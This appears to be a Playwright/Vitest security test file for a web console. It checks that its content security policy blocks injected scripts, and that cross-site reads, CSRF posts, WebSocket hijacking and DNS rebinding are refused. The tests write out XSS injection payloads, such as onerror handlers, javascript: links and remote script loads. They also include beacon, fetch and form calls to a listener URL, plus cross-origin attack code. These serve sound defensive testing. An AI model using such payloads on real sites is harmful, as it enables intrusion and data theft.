import type { BrowserContext } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { AS_PROGRAM } from "../../packages/server/test/support/session.ts";
import { openPage } from "../support/browser.ts";
import { notePolicyViolations, policyViolations } from "../support/policy.ts";
import { signInPerson } from "../support/signed-in.ts";
import { newPerson, startSignIn } from "../support/steps.ts";
import { useConsole } from "../support/use-console.ts";
import { startListener, type Listener } from "./listener.ts";

const latchkey = useConsole({ flags: ["--host-resolver-rules=MAP rebound.example 127.0.0.1"] });
let listener: Listener;

beforeAll(async () => {
  listener = await startListener();
});

afterAll(() => listener.close());

/** What an attacker would try whose text has become a part of the page after all. */
const injection = (url: string) => `(() => {
  const add = (html) => {
    const holder = document.createElement("div");
    holder.innerHTML = html;
    document.body.append(holder);
  };
  const script = document.createElement("script");
  script.textContent = "window.hasRun = 'inline'";
  const remote = document.createElement("script");
  remote.src = "${url}/remote.js";
  document.body.append(script, remote);
  add("<img src=x onerror=window.hasRun='handler'><img src='${url}/image.png'>");
  add("<iframe src='${url}/frame'></iframe><a id=js href='javascript:window.hasRun=1'>x</a>");
  document.getElementById("js").click();
  fetch("${url}/fetch", { mode: "no-cors" }).catch(() => undefined);
  navigator.sendBeacon("${url}/beacon");
  add("<form id=form action='${url}/form'></form>");
  document.getElementById("form").submit();
})()`;

/** Where every open page keeps what its policy refuses. */
async function newWitness(): Promise<BrowserContext> {
  const person = await newPerson(latchkey.browser);
  await notePolicyViolations(person);
  return person;
}

it("signing in violates no policy of the page", async () => {
  const { page, problems } = await openPage(await newWitness(), `${latchkey.url}/chat`);
  await startSignIn(page);
  expect(await policyViolations(page)).toEqual([]);
  expect(problems).toEqual([]);
});

it("script that gets into a page does not run, and what it would load stays away", async () => {
  const { page } = await openPage(await newWitness(), `${latchkey.url}/chat`);
  await page.getByRole("main").waitFor();
  await page.evaluate(injection(listener.url));
  await expect
    .poll(async () => (await policyViolations(page)).map((text) => text.split(" ")[0]).sort())
    .toEqual(
      expect.arrayContaining([
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
      ]),
    );
  // The debugger itself may evaluate strings; a timer of the page may not.
  await page.evaluate("setTimeout('window.hasRun = 1')");
  await expect.poll(() => policyViolations(page)).toContainEqual(expect.stringMatching(/ eval /));
  expect(await page.evaluate("window.hasRun")).toBeUndefined();
  expect(listener.visits).toEqual([]);
});

it("another site in the same browser can neither read the console, nor act in it, nor frame it", async () => {
  const { url } = latchkey;
  const ws = url.replace("http", "ws");
  const listAttempts = async () =>
    (await fetch(`${url}/api/codex/device-auth`, { headers: AS_PROGRAM })).json();
  const before: unknown = await listAttempts();
  listener.serve(`<!doctype html><iframe src="${url}/chat"></iframe>
    <form id="f" method="post" action="${url}/api/codex/device-auth" target="_blank" enctype="text/plain"></form>`);
  const person = await newPerson(latchkey.browser);
  // Whose browser it is, is signed in here.
  await signInPerson(person, url);
  const page = await person.newPage();
  await page.goto(listener.url);
  const outcome = await page.evaluate(
    async ({ url, ws }) => {
      const read = async (path: string, init?: RequestInit) => {
        try {
          const answer = await fetch(`${url}${path}`, init);
          return answer.type === "opaque" ? "opaque" : await answer.text();
        } catch {
          return "refused";
        }
      };
      const socket = new WebSocket(`${ws}/ws`);
      const opened = await new Promise((resolve) => {
        socket.onopen = () => resolve("opened");
        socket.onerror = () => resolve("refused");
      });
      return {
        read: await read("/api/conversations"),
        post: await read("/api/codex/device-auth", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: "{}",
        }),
        blind: await read("/api/codex/device-auth", { method: "POST", mode: "no-cors" }),
        opened,
      };
    },
    { url, ws },
  );
  expect(outcome).toEqual({
    read: "refused",
    post: "refused",
    blind: "refused",
    opened: "refused",
  });
  const [answer] = await Promise.all([
    person.waitForEvent("page"),
    page.evaluate("document.getElementById('f').submit()"),
  ]);
  await answer.waitForLoadState();
  expect(await answer.locator("body").textContent()).toContain("other sites are refused");
  const frame = page.frames().find((each) => each !== page.mainFrame());
  expect(await frame?.locator("main").count()).toBe(0);
  expect(await listAttempts()).toEqual(before);
});

it("a name that another site has rebound to this machine is not answered", async () => {
  const { port } = new URL(latchkey.url);
  const page = await (await newPerson(latchkey.browser)).newPage();
  const answer = await page.goto(`http://rebound.example:${port}/api/conversations`);
  expect(answer?.status()).toBe(400);
  expect(await page.locator("body").textContent()).toContain(
    "This Host is not served here: rebound.example",
  );
});
